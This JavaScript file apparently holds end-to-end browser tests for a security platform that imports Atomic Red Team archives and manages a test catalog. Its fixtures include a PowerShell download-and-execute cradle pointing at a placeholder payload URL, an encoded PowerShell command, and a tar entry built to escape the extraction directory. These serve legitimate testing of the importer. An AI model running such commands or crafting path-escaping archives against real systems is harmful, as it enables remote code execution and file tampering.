// Browser scenarios of the content library (features/data-sources, features/test-catalog),
// spread into run.mjs's list: `...contentScenarios(helpers)`. An admin imports a small archive
// in Atomic Red Team's layout, written here, on the Data Sources screen; the Test Catalog,
// filtered by technique, lists its templates; a lead deactivates one in bulk; a red tech creates
// a test from another with an argument value and finds it in the test's procedure. Every name
// and GUID carries the run's id, so the scenarios hold on a stack that already has templates.
import { randomUUID } from "node:crypto";
import { gzipSync } from "node:zlib";

/** One tar (ustar) header block for a regular file. */
function tarHeader(name, size) {
  const h = Buffer.alloc(512, 0);
  const put = (text, offset, length) => h.write(text, offset, Math.min(Buffer.byteLength(text), length), "utf8");
  const octal = (n, length) => n.toString(8).padStart(length - 1, "0");
  put(name, 0, 100);
  put(octal(0o644, 8), 100, 8);
  put(octal(0, 8), 108, 8);
  put(octal(0, 8), 116, 8);
  put(octal(size, 12), 124, 12);
  put(octal(Math.floor(Date.now() / 1000), 12), 136, 12);
  h.fill(0x20, 148, 156); // the checksum is computed with its own field as spaces
  put("0", 156, 1);
  put("ustar\u000000", 257, 8);
  let sum = 0;
  for (const byte of h) sum += byte;
  put(`${sum.toString(8).padStart(6, "0")}\u0000 `, 148, 8);
  return h;
}

/** A .tar.gz of `files` ({path: text}), as `git archive` would lay it out. */
export function tarGz(files) {
  const blocks = [];
  for (const [path, text] of Object.entries(files)) {
    const body = Buffer.from(text, "utf8");
    blocks.push(tarHeader(path, body.length), body, Buffer.alloc((512 - (body.length % 512)) % 512, 0));
  }
  blocks.push(Buffer.alloc(1024, 0));
  return gzipSync(Buffer.concat(blocks));
}

/**
 * Atomic Red Team YAML for `technique` with `tests` ({name, guid, command, args?, cleanup?,
 * platform?, executor?}): the fields the importer reads, as upstream writes them.
 */
export function atomicYaml(technique, displayName, tests) {
  const lines = [`attack_technique: ${technique}`, `display_name: '${displayName}'`, "atomic_tests:"];
  for (const t of tests) {
    lines.push(`- name: '${t.name}'`, `  auto_generated_guid: ${t.guid}`, "  description: |", `    ${t.description ?? `Browser test atomic ${t.name}.`}`);
    lines.push("  supported_platforms:", `  - ${t.platform ?? "linux"}`);
    if (t.args) {
      lines.push("  input_arguments:");
      for (const [name, a] of Object.entries(t.args)) {
        lines.push(`    ${name}:`, `      description: ${a.description}`, `      type: ${a.type}`, `      default: '${a.default}'`);
      }
    }
    lines.push("  executor:", `    name: ${t.executor ?? "sh"}`, "    elevation_required: false", "    command: |", `      ${t.command}`);
    if (t.cleanup) lines.push("    cleanup_command: |", `      ${t.cleanup}`);
  }
  return `${lines.join("\n")}\n`;
}

/**
 * @param {object} h the helpers run.mjs has: RUN_ID, adminToken, api, apiRaw, assert,
 *   withSession, screenshot, seedUser, settled, tokenFor, useToken
 */
export function contentScenarios(h) {
  const { RUN_ID, adminToken, api, apiRaw, assert, withSession, screenshot, seedUser, settled, tokenFor, useToken } = h;

  // The templates of this run: two under T1059.001 (PowerShell), two under T1001, the mini
  // catalog's technique in `make test` (T1059.001 is then unknown there, so flagged).
  const names = {
    cradle: `PowerShell download cradle ${RUN_ID}`,
    encoded: `Encoded command ${RUN_ID}`,
    write: `Write a marker file ${RUN_ID}`,
    second: `Second atomic ${RUN_ID}`,
  };
  const archive = () =>
    tarGz({
      "atomics/T1059.001/T1059.001.yaml": atomicYaml("T1059.001", "Command and Scripting Interpreter: PowerShell", [
        {
          name: names.cradle,
          guid: randomUUID(),
          platform: "windows",
          executor: "powershell",
          command: "IEX (New-Object Net.WebClient).DownloadString('#{url}')",
          args: { url: { description: "Where the script is", type: "url", default: "http://127.0.0.1/payload.ps1" } },
        },
        { name: names.encoded, guid: randomUUID(), platform: "windows", executor: "powershell", command: "powershell.exe -e ZQBjAGgAbwAgAGgAaQA=" },
      ]),
      "atomics/T1001/T1001.yaml": atomicYaml("T1001", "Alpha Execution", [
        {
          name: names.write,
          guid: randomUUID(),
          command: "echo aegis > #{output_file}",
          cleanup: "rm -f #{output_file}",
          args: { output_file: { description: "The file written", type: "path", default: "/tmp/aegis-marker.txt" } },
        },
        { name: names.second, guid: randomUUID(), command: "id" },
      ]),
    });

  /** Shared by the scenarios, in order: the imported templates' ids by name. */
  const seeded = { ids: {} };
  const guard = async () => {
    const doc = await api("/api/v1/openapi.json");
    return Object.keys(doc.paths ?? {}).includes("/api/v1/data-sources") ? null : "the server has no /api/v1/data-sources yet";
  };

  /** The source's card on the Data Sources screen. */
  const card = (page, name) => page.getByRole("region", { name, exact: true });

  /**
   * Imports `file` on the card and waits for the run it starts to end (not the card's previous
   * run), or for a refusal next to the file field; returns both locators.
   */
  async function importOnCard(page, sourceName, file) {
    const c = card(page, sourceName);
    const shown = c.getByTestId("source-run");
    const before = (await shown.count()) ? await shown.getAttribute("data-run-id") : null;
    await c.getByLabel("Upload an archive").setInputFiles(file);
    await c.getByRole("button", { name: "Import file" }).click();
    const fresh = before ? `:not([data-run-id="${before}"])` : "";
    const run = c.locator(`[data-testid="source-run"]${fresh}`);
    const fieldError = c.locator('[id$="-file-error"]');
    await Promise.race([
      c.locator(`[data-testid="source-run"]${fresh}:is([data-status="succeeded"], [data-status="failed"])`).waitFor({ timeout: 90_000 }),
      fieldError.waitFor({ timeout: 90_000 }),
    ]);
    return { run, fieldError };
  }

  return [
    {
      name: "content: admin imports an Atomic Red Team archive on Data Sources and sees the run succeed with its counts",
      guard,
      run: () =>
        withSession("content-import", async (page, session) => {
          await useToken(session, adminToken);
          await page.goto("/");
          await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Data Sources" }).click();
          await page.getByRole("heading", { name: "Data Sources", level: 1 }).waitFor();
          await settled(page);
          const c = card(page, "Atomic Red Team");
          await c.waitFor();
          const t1059Known = (await apiRaw("/api/v1/techniques/T1059.001", { token: adminToken })).status === 200;

          const requests = [];
          page.on("request", (r) => requests.push(`${r.method()} ${new URL(r.url()).pathname}${new URL(r.url()).search}`));
          const { run, fieldError } = await importOnCard(page, "Atomic Red Team", { name: `atomics-${RUN_ID}.tar.gz`, mimeType: "application/gzip", buffer: archive() });
          assert(!(await fieldError.count()), `the archive was refused: ${await fieldError.innerText().catch(() => "")}`);
          const status = await run.getAttribute("data-status");
          assert(status === "succeeded", `the import run ${status}: ${await run.innerText()}`);
          // Small enough to go as the request body, named in the query.
          assert(
            requests.some((r) => r.startsWith(`POST /api/v1/data-sources/atomic-red-team/import?filename=atomics-${RUN_ID}.tar.gz`)),
            `the archive was not posted to the import endpoint: ${requests.filter((r) => r.startsWith("POST")).join(", ")}`,
          );
          const count = async (k) => Number((await c.locator(`[data-count="${k}"] dd`).innerText()).replace(/\D/g, ""));
          assert((await count("added")) === 4, `added: ${await count("added")} (expected the archive's 4 atomic tests)`);
          assert((await count("skipped")) === 0, `skipped: ${await count("skipped")}`);
          const flagged = await count("flagged");
          assert(flagged === (t1059Known ? 0 : 2), `flagged: ${flagged} (T1059.001 ${t1059Known ? "is" : "is not"} in the catalog)`);
          await screenshot(page, "40-data-sources-import");

          // The run is in the source's history, and its record agrees with the screen.
          const runId = await run.getAttribute("data-run-id");
          const record = await api(`/api/v1/data-sources/runs/${runId}`, { token: adminToken });
          assert(record.trigger === "upload" && record.counts.added === 4, `the run record: ${JSON.stringify(record.counts)}, trigger ${record.trigger}`);
          await c.getByRole("button", { name: "Run history" }).click();
          await c.getByRole("table", { name: "Runs of Atomic Red Team" }).getByText(`Uploaded file atomics-${RUN_ID}.tar.gz`).first().waitFor();

          const list = await api(`/api/v1/test-templates?source=atomic-red-team&limit=200&q=${RUN_ID}`, { token: adminToken });
          for (const t of list.items) seeded.ids[t.name] = t.id;
          for (const name of Object.values(names)) assert(seeded.ids[name], `"${name}" is not in the catalog after the import`);
        }),
    },
    {
      name: "content: an archive with a path escaping it is refused, naming the entry",
      guard,
      run: () =>
        withSession("content-refused", async (page, session) => {
          await useToken(session, adminToken);
          await page.goto("/data-sources");
          await settled(page);
          const evil = `../escape-${RUN_ID}.yaml`;
          const { run, fieldError } = await importOnCard(page, "Atomic Red Team", {
            name: `evil-${RUN_ID}.tar.gz`,
            mimeType: "application/gzip",
            buffer: tarGz({ "atomics/T1001/T1001.yaml": atomicYaml("T1001", "Alpha", [{ name: `Never ${RUN_ID}`, guid: randomUUID(), command: "id" }]), [evil]: "x: 1\n" }),
          });
          // Refused synchronously (422 next to the file field) or by the run (failed, its error naming the entry).
          const said = (await fieldError.count()) ? await fieldError.innerText() : await run.innerText();
          if (!(await fieldError.count())) assert((await run.getAttribute("data-status")) === "failed", `the run ${await run.getAttribute("data-status")}`);
          assert(said.includes("escape-"), `the refusal does not name the entry: ${said}`);
          await screenshot(page, "41-data-sources-refused");
          const none = await api(`/api/v1/test-templates?q=${encodeURIComponent(`Never ${RUN_ID}`)}&limit=10`, { token: adminToken });
          assert(!none.items.some((t) => t.name === `Never ${RUN_ID}`), "a refused archive still wrote a template");
        }),
    },
    {
      name: "content: the catalog filtered by technique lists the imported templates; a lead deactivates one in bulk",
      guard: async () => (await guard()) ?? (seeded.ids[names.second] ? null : "the import scenario did not run"),
      run: async () => {
        const lead = await seedUser(adminToken, "blue_lead", "catlead");
        const leadToken = await tokenFor(lead.username, lead.password);
        await withSession("content-catalog", async (page, session) => {
          await useToken(session, leadToken);
          // The technique page's count leads to the catalog filtered by it.
          await page.goto("/techniques/T1001");
          const count = page.getByRole("link", { name: /active test templates?/ });
          await count.waitFor();
          await count.click();
          await page.waitForURL((u) => u.pathname === "/test-catalog" && u.searchParams.get("technique") === "T1001");
          await page.getByRole("heading", { name: "Test Catalog", level: 1 }).waitFor();
          const table = page.getByRole("table", { name: "Test templates" });
          await table.getByRole("link", { name: names.write }).waitFor();
          await table.getByRole("link", { name: names.second }).waitFor();
          assert(!(await table.getByRole("link", { name: names.cradle }).count()), "a T1059.001 template is listed under T1001");
          assert((await page.getByLabel("Technique", { exact: true }).inputValue()) === "T1001", "the technique filter does not show the URL's technique");
          const total = await page.getByTestId("catalog-total").innerText();
          const api1001 = await api("/api/v1/test-templates?technique=T1001&active=true&limit=1", { token: leadToken });
          assert(total.startsWith(`${api1001.total} template`), `the screen says "${total}", the API ${api1001.total}`);

          // The other technique, through the filter box: the URL follows.
          await page.getByLabel("Technique", { exact: true }).fill("T1059.001");
          await page.waitForURL((u) => u.searchParams.get("technique") === "T1059.001");
          await table.getByRole("link", { name: names.cradle }).waitFor();
          await page.getByLabel("Technique", { exact: true }).fill("T1001");
          await page.getByLabel("Status").selectOption({ label: "Any" });
          await page.waitForURL((u) => u.searchParams.get("technique") === "T1001" && !u.searchParams.has("active"));
          await screenshot(page, "42-test-catalog");

          const row = table.locator(`[role=row][data-template-id="${seeded.ids[names.second]}"]`);
          await row.getByRole("checkbox", { name: `Select ${names.second}` }).check();
          const bar = page.getByRole("region", { name: "Activate or deactivate templates" });
          await bar.getByText("1 template selected").waitFor();
          await bar.getByRole("button", { name: "Deactivate selected" }).click();
          await page.locator('[data-toast="success"]', { hasText: "1 template deactivated" }).waitFor();
          await row.getByText("Inactive").waitFor();
          await table.locator(`[role=row][data-template-id="${seeded.ids[names.write]}"]`).getByText("Active", { exact: true }).waitFor();
        });
        const after = await api(`/api/v1/test-templates/${seeded.ids[names.second]}`, { token: adminToken });
        assert(after.active === false, "the deactivated template is still active");
        const other = await api(`/api/v1/test-templates/${seeded.ids[names.write]}`, { token: adminToken });
        assert(other.active === true, "bulk-deactivating one template changed another");
      },
    },
    {
      name: "content: a red tech creates a test from a template with an argument value, found in the test's procedure",
      guard: async () => (await guard()) ?? (seeded.ids[names.write] ? null : "the import scenario did not run"),
      run: async () => {
        const red = await seedUser(adminToken, "red_tech", "catred");
        const redToken = await tokenFor(red.username, red.password);
        const value = `/tmp/aegis-${RUN_ID}.txt`;
        let testId = null;
        await withSession("content-from-template", async (page, session) => {
          await useToken(session, redToken);
          await page.goto(`/test-catalog?technique=T1001&q=${RUN_ID}`);
          await page.getByRole("table", { name: "Test templates" }).getByRole("link", { name: names.write }).click();
          await page.getByRole("heading", { name: names.write, level: 1 }).waitFor();
          assert((await page.locator('pre[aria-label="Command"]').innerText()).includes("#{output_file}"), "the command is not shown as written");
          await page.getByRole("table", { name: "Arguments" }).getByText("/tmp/aegis-marker.txt").waitFor();
          // A red tech reads, and starts tests, but does not switch templates on or off.
          assert(!(await page.getByRole("button", { name: "Deactivate" }).count()), "a red tech is offered Deactivate");
          await page.getByRole("button", { name: "Create test from template" }).click();
          const dialog = page.getByRole("dialog", { name: "Create a test from this template" });
          const input = dialog.getByRole("textbox", { name: /^output_file/ });
          assert((await input.inputValue()) === "/tmp/aegis-marker.txt", "the argument is not prefilled with its default");
          await input.fill(value);
          await dialog.getByTestId("procedure-preview").getByText(`echo aegis > ${value}`).waitFor();
          await screenshot(page, "43-create-test-from-template");
          await dialog.getByRole("button", { name: "Create test" }).click();
          await page.waitForURL(/\/tests\/[0-9a-f-]{36}$/);
          testId = new URL(page.url()).pathname.split("/").pop();
          await page.getByText(`echo aegis > ${value}`).first().waitFor();
        });
        const test = await api(`/api/v1/tests/${testId}`, { token: adminToken });
        assert(test.procedure.includes(value), `the test's procedure does not hold the argument: ${test.procedure}`);
        assert(test.template_id === seeded.ids[names.write], `the test's template_id is ${test.template_id}`);
        assert(test.technique_id === "T1001", `the test is on ${test.technique_id}`);
      },
    },
  ];
}
